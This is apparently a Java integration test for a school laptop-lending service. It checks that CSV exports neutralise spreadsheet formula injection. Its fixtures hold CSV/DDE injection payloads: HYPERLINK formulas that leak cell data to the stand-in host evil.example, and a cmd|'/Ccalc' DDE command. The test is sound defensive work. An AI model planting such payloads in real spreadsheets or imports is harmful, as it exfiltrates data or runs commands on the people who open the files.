package fr.ecole.lending.exports;

import static org.assertj.core.api.Assertions.assertThat;

import com.opencsv.CSVParserBuilder;
import com.opencsv.CSVReader;
import com.opencsv.CSVReaderBuilder;
import fr.ecole.lending.app.LendingConfiguration;
import fr.ecole.lending.support.Api.Reply;
import fr.ecole.lending.support.Api;
import fr.ecole.lending.support.Builders;
import fr.ecole.lending.support.TestApp;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import org.jdbi.v3.core.Jdbi;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Text that people typed (a guardian's name, an e-mail, an establishment's name from an imported
 * directory) reaches the CSV files desks and collectivities open in a spreadsheet. None of it may be
 * read as a formula there: every CSV the service writes neutralises a cell that begins with
 * {@code = + - @}, a tab or a carriage return (after spaces too) with a leading single quote; a plain
 * number is left a number.
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class CsvFormulaInjectionIT {
    static final DropwizardAppExtension<LendingConfiguration> APP = TestApp.createWithDirectory();
    static final String SCHOOL = Builders.COLLEGE;
    /** An establishment added by a directory import, under a name a spreadsheet would run. */
    static final String HOSTILE_SCHOOL = "0359990U";
    static final String HOSTILE_SCHOOL_NAME = "=HYPERLINK(\"http://evil.example/?\"&A2;\"Voir\")";
    static final String HOSTILE_NAME = "=HYPERLINK(\"http://evil.example/?\"&C2&D2;\"Cliquez ici\")";
    static final String HOSTILE_EMAIL = "=cmd|'/Ccalc'!A0@evil.example";
    /** What a spreadsheet would evaluate: a trigger character first, after any spaces. */
    static final Pattern FORMULA = Pattern.compile("^ *[=+\\-@\t\r].*", Pattern.DOTALL);
    /** A plain number, written by the service (a count, a rate): not a formula whatever its sign. */
    static final Pattern NUMBER = Pattern.compile("^[+-]?\\d+([.,]\\d+)?$");

    static Api admin;

    @BeforeAll
    static void scene() {
        admin = new Api(APP);
        Reply directory = admin.postRaw("/api/imports/establishments", "text/csv", ("Identifiant_de_l_etablissement;"
                + "Nom_etablissement;Type_etablissement;Code_commune;Nom_commune;Code_departement;Code_region;"
                + "Appartenance_Education_Prioritaire;Autre\n" + HOSTILE_SCHOOL + ";\"" + HOSTILE_SCHOOL_NAME.replace("\"", "\"\"")
                + "\";College;35238;Rennes;035;53;;x\n").getBytes(StandardCharsets.UTF_8));
        assertThat(directory.status()).as(directory.text()).isEqualTo(200);
        assertThat(directory.json().path("created").asInt()).as(directory.text()).isEqualTo(1);
    }

    /** A household reached by e-mail whose laptop is ten days late; its device's tag. */
    static String overdueHousehold(String name, String email) {
        Map<String, Object> family = Builders.family(name, SCHOOL);
        @SuppressWarnings("unchecked")
        Map<String, Object> guardian = (Map<String, Object>) family.get("guardian");
        guardian.put("preferredContact", "EMAIL");
        guardian.put("email", email);
        Reply created = admin.post("/api/families", family);
        assertThat(created.status()).as(created.text()).isEqualTo(201);
        long id = created.json().path("id").asLong();
        Reply device = admin.post("/api/establishments/" + SCHOOL + "/devices", Builders.laptop());
        assertThat(device.status()).as(device.text()).isEqualTo(201);
        String assetTag = device.json().path("assetTag").asText();
        Reply lent = admin.post("/api/agreements", Builders.agreement(id, SCHOOL, List.of(assetTag),
                UUID.randomUUID().toString()));
        assertThat(lent.status()).as(lent.text()).isEqualTo(201);
        Jdbi.create(APP.getConfiguration().getDataSourceFactory().getUrl()).useHandle(handle -> handle.execute(
                "UPDATE agreements SET due_date = ? WHERE number = ?",
                LocalDate.now(ZoneId.of("Europe/Paris")).minusDays(10).toString(), lent.json().path("number").asText()));
        return assetTag;
    }

    static List<String[]> rows(String csv) throws Exception {
        assertThat(csv).startsWith("\uFEFF");
        try (CSVReader reader = new CSVReaderBuilder(new StringReader(csv.substring(1)))
                .withCSVParser(new CSVParserBuilder().withSeparator(';').build()).build()) {
            return reader.readAll();
        }
    }

    /** The cells of {@code csv} a spreadsheet would take for a formula. */
    static List<String> formulas(String csv) throws Exception {
        List<String> found = new ArrayList<>();
        for (String[] row : rows(csv)) {
            for (String cell : row) {
                if (FORMULA.matcher(cell).matches() && !NUMBER.matcher(cell).matches()) {
                    found.add(cell);
                }
            }
        }
        return found;
    }

    static String cellOf(String csv, String column, String containing) throws Exception {
        List<String[]> rows = rows(csv);
        int index = List.of(rows.get(0)).indexOf(column);
        assertThat(index).as("column " + column + " in " + List.of(rows.get(0))).isNotNegative();
        return rows.stream().skip(1).map(row -> row[index]).filter(cell -> cell.contains(containing)).findFirst()
                .orElseThrow(() -> new AssertionError("no cell of " + column + " holds " + containing + " in\n" + csv));
    }

    @Test
    void aGuardianNamedAsAFormulaIsTextInTheFollowUpCsv() throws Exception {
        String tag = overdueHousehold(HOSTILE_NAME, HOSTILE_EMAIL);
        Reply followUp = admin.post("/api/establishments/" + SCHOOL + "/follow-ups?format=csv", "");
        assertThat(followUp.status()).as(followUp.text()).isEqualTo(200);
        String csv = followUp.text();

        assertThat(formulas(csv)).as(csv).isEmpty();
        assertThat(cellOf(csv, "responsable", "HYPERLINK")).isEqualTo("'" + HOSTILE_NAME);
        assertThat(cellOf(csv, "email", "evil.example")).isEqualTo("'" + HOSTILE_EMAIL);
        // what the service wrote itself stays as it was
        assertThat(cellOf(csv, "appareils", tag)).isEqualTo(tag);
        assertThat(cellOf(csv, "canal", "EMAIL")).isEqualTo("EMAIL");
    }

    @Test
    void anEstablishmentNamedAsAFormulaIsTextInTheReportCsv() throws Exception {
        Reply device = admin.post("/api/establishments/" + HOSTILE_SCHOOL + "/devices", Builders.laptop());
        assertThat(device.status()).as(device.text()).isEqualTo(201);
        Reply report = admin.get("/api/reports/loans?territory=departement:035&groupBy=establishment&format=csv");
        assertThat(report.status()).as(report.text()).isEqualTo(200);
        assertThat(formulas(report.text())).as(report.text()).isEmpty();
        // the label names the establishment and its commune
        assertThat(cellOf(report.text(), "label", "HYPERLINK")).startsWith("'" + HOSTILE_SCHOOL_NAME);
        assertThat(cellOf(report.text(), "key", HOSTILE_SCHOOL)).isEqualTo(HOSTILE_SCHOOL);
    }
}
